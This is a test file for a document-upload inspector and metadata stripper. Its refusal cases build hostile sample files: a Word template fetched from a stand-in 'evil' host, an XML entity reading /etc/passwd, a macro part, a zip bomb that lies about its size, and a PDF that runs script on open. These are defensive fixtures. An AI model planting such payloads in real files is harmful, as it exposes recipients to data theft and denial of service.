import JSZip from 'jszip';
import mammoth from 'mammoth';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import type { FileKind } from '../../src/entries/rules/file-kind.js';
import { inspectFile } from '../../src/entries/use-cases/inspect-file.js';
import type { ReadableFile } from '../../src/platform/files/readable-file.js';
import { pdfObjectTexts } from '../../src/platform/documents/pdf-object-streams.js';
import { plainDocx } from '../../src/platform/documents/plain-docx.js';
import { plainImage } from '../../src/platform/documents/plain-image.js';
import { plainPdf } from '../../src/platform/documents/plain-pdf.js';
import { docxFile, docxText, jpgFile, pdfFile, planted, pngFile } from '../support/documents.js';

const inMemory = (bytes: Buffer): ReadableFile => ({
  size: bytes.length,
  read: async () => Readable.from([bytes], { objectMode: false }),
});
const refused = (code: string) => ({ ok: false, code });
const runs = (pdf: PDFDocument): void => {
  const script = pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(script));
};
const compressed = async (change?: (pdf: PDFDocument) => void): Promise<Buffer> => {
  const pdf = await PDFDocument.load(await pdfFile(change), { updateMetadata: false });
  return Buffer.from(await pdf.save({ useObjectStreams: true }));
};
/** Writes another unpacked size for every entry, as a bomb does that wants to look small. */
const lying = async (): Promise<Buffer> => {
  const bytes = await docxFile({ 'word/media/big.xml': 'a'.repeat(5_000_000) });
  for (let at = bytes.indexOf('PK\x01\x02'); at >= 0; at = bytes.indexOf('PK\x01\x02', at + 4))
    bytes.writeUInt32LE(10, at + 24);
  return bytes;
};

describe('a file comes in', () => {
  it.each<[string, FileKind, () => Promise<Buffer>]>([
    ['when it is a Word document', 'docx', () => docxFile()],
    ['when it is a PDF', 'pdf', () => pdfFile()],
    ['when it is a PDF with packed objects', 'pdf', () => compressed()],
    ['when it is a JPEG', 'jpg', () => jpgFile()],
    ['when it is a PNG', 'png', () => pngFile()],
  ])('%s', async (_when, kind, make) => {
    expect(await inspectFile(kind, inMemory(await make()))).toEqual({ ok: true, value: true });
  });

  it.each<[string, FileKind, string, () => Promise<Buffer>]>([
    [
      'a document with macros',
      'docx',
      'file-has-macros',
      () => docxFile({ 'word/vbaProject.bin': Buffer.alloc(100) }),
    ],
    [
      'a document with a template elsewhere',
      'docx',
      'file-has-links',
      () =>
        docxFile({
          'word/_rels/settings.xml.rels':
            '<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>',
        }),
    ],
    [
      'a document that reads other files',
      'docx',
      'file-damaged',
      () =>
        docxFile({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' }),
    ],
    [
      'a document that hides this in UTF-16',
      'docx',
      'file-damaged',
      () => docxFile({ 'word/document.xml': Buffer.from('\ufeff<!DOCTYPE a>', 'utf16le') }),
    ],
    [
      'a document that fills the disk',
      'docx',
      'file-unpacks-too-large',
      () => docxFile({ 'word/media/zeros.bin': Buffer.alloc(3 * 1024 * 1024) }),
    ],
    ['a document that lies about its size', 'docx', 'file-damaged', lying],
    [
      'a document that was cut off',
      'docx',
      'file-damaged',
      async () => (await docxFile()).subarray(0, 2_000),
    ],
    [
      'an archive that is no document',
      'docx',
      'file-kind-mismatch',
      async () => new JSZip().file('a.txt', 'a').generateAsync({ type: 'nodebuffer' }),
    ],
    ['a program', 'docx', 'file-kind-mismatch', async () => Buffer.from('MZ\x90\0\x03', 'latin1')],
    ['a program named PDF', 'pdf', 'file-kind-mismatch', async () => Buffer.from('MZ\x90\0')],
    ['a PDF that runs', 'pdf', 'file-has-scripts', () => pdfFile(runs)],
    ['a PDF that runs and hides it', 'pdf', 'file-has-scripts', () => compressed(runs)],
    [
      'a PDF that carries a file',
      'pdf',
      'file-has-embedded-files',
      () =>
        pdfFile((pdf) =>
          pdf.catalog.set(PDFName.of('Names'), pdf.context.obj({ EmbeddedFiles: [] })),
        ),
    ],
    [
      'a PDF that was cut off',
      'pdf',
      'file-damaged',
      async () => (await pdfFile()).subarray(0, 900),
    ],
    [
      'a picture that was cut off',
      'jpg',
      'file-damaged',
      async () => (await jpgFile()).subarray(0, 20),
    ],
    ['a PNG named JPEG', 'jpg', 'file-kind-mismatch', () => pngFile()],
  ])('but not %s', async (_what, kind, code, make) => {
    expect(await inspectFile(kind, inMemory(await make()))).toEqual(refused(code));
  });
});

/** Where the planted name stands in an archive, by part. */
async function partsNaming(bytes: Buffer): Promise<string[]> {
  const zip = await JSZip.loadAsync(bytes);
  const parts: string[] = [];
  for (const [name, file] of Object.entries(zip.files))
    if ((await file.async('nodebuffer')).includes(planted)) parts.push(name);
  return parts.sort();
}

describe('the copy for judges', () => {
  it('of a document has its text and not its maker', async () => {
    const original = await docxFile();
    expect(await partsNaming(original)).toEqual([
      'customXml/item1.xml',
      'docProps/app.xml',
      'docProps/core.xml',
      'docProps/custom.xml',
      'word/_rels/document.xml.rels',
      'word/comments.xml',
      'word/document.xml',
      'word/media/image1.jpg',
      'word/people.xml',
      'word/settings.xml',
    ]);
    const copy = await plainDocx(original);
    expect(await partsNaming(copy)).toEqual([]);
    expect((await mammoth.extractRawText({ buffer: copy })).value.trim()).toBe(docxText);
    expect(await inspectFile('docx', inMemory(copy))).toEqual({ ok: true, value: true });
  });

  it('of a document is the same whenever it is made', async () => {
    const original = await docxFile();
    expect((await plainDocx(original)).equals(await plainDocx(original))).toBe(true);
  });

  const namedIn = async (bytes: Buffer): Promise<boolean> => {
    const utf16 = Buffer.from(planted, 'utf16le').swap16().toString('hex').toUpperCase();
    const texts = (await pdfObjectTexts(bytes)) ?? [];
    return texts.some((text) => text.includes(planted) || text.toUpperCase().includes(utf16));
  };

  it('of a PDF has its pages and not its maker', async () => {
    const original = await pdfFile();
    expect(await namedIn(original)).toBe(true);
    const copy = await plainPdf(original);
    expect(await namedIn(copy)).toBe(false);
    const read = await PDFDocument.load(copy, { updateMetadata: false });
    expect([read.getPageCount(), read.getAuthor(), read.getTitle()]).toEqual([
      1,
      undefined,
      undefined,
    ]);
  });

  it.each(['jpg', 'png'] as const)('of a %s has the picture and not its maker', async (format) => {
    const original = format === 'jpg' ? await jpgFile() : await pngFile();
    expect(original.includes(planted)).toBe(true);
    const copy = await plainImage(original, format);
    expect(copy.includes(planted)).toBe(false);
    const [before, after] = await Promise.all([original, copy].map((b) => sharp(b).metadata()));
    expect([after?.width, after?.height, after?.exif]).toEqual([
      before?.width,
      before?.height,
      undefined,
    ]);
  });
});
